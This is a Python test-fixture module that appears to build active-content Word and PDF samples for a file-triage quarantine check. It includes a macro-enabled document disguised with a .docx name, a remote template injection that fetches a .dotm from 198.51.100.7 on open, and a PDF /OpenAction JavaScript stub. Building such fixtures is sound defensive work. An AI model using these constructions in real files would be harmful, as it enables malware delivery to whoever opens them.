"""Files that act when opened, built as the real ones are: intake must quarantine them as
attachments and a production must refuse them as records (triage/filetypes.py, issue 15)."""

import io
import zipfile

MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA = "application/vnd.ms-office.vbaProject"
RELS = "application/vnd.openxmlformats-package.relationships+xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Subscriber records for the account.</w:t></w:r></w:p></w:body>"
    "</w:document>"
)


def _types(main: str, extra: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Default Extension="rels" ContentType="{RELS}"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f"{extra}"
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
        "</Types>"
    )


def _rels(*relationships: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<Relationships xmlns="{PACKAGE}">{"".join(relationships)}</Relationships>'
    )


def _docx(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return out.getvalue()


def _package(main: str, types_extra: str, document_rels: str, more: dict) -> bytes:
    return _docx(
        {
            "[Content_Types].xml": _types(main, types_extra),
            "_rels/.rels": _rels(
                f'<Relationship Id="rId1" Type="{OFFICE}/officeDocument" '
                'Target="word/document.xml"/>'
            ),
            "word/document.xml": DOCUMENT,
            "word/_rels/document.xml.rels": _rels(document_rels),
            **more,
        }
    )


def docx_plain() -> bytes:
    """A Word document with a hyperlink: nothing in it acts until a person clicks."""
    link = (
        f'<Relationship Id="rId5" Type="{OFFICE}/hyperlink" '
        'Target="https://www.example.org/" TargetMode="External"/>'
    )
    return _package(MAIN, "", link, {})


def docx_with_macros() -> bytes:
    """What Word saves as .docm, named .docx: the macro content type and word/vbaProject.bin."""
    vba = '<Default Extension="bin" ContentType="' + VBA + '"/>'
    rel = (
        '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="vbaProject.bin"/>'
    )
    project = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"Attribute VB_Name"
    return _package(MACRO_MAIN, vba, rel, {"word/vbaProject.bin": project})


def docx_with_remote_template() -> bytes:
    """Template injection: Word fetches the attached template from the address when it opens."""
    rel = (
        f'<Relationship Id="rId1337" Type="{OFFICE}/attachedTemplate" '
        "Target='http://198.51.100.7/template.dotm' TargetMode='External'/>"
    )
    return _package(MAIN, "", rel, {})


def pdf(catalog_extra: str, *objects: str) -> bytes:
    body = f"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R {catalog_extra} >>\nendobj\n"
    body += "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
    body += "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n"
    for number, text in enumerate(objects, start=4):
        body += f"{number} 0 obj\n{text}\nendobj\n"
    return (body + "trailer\n<< /Root 1 0 R >>\n%%EOF\n").encode()


def pdf_with_javascript() -> bytes:
    """Runs a script when opened: an /OpenAction naming a JavaScript action."""
    return pdf("/OpenAction 4 0 R", "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>")


def pdf_opening_a_page() -> bytes:
    """What word processors write: open at page one, fitted. Nothing acts."""
    return pdf("/OpenAction [3 0 R /Fit]")
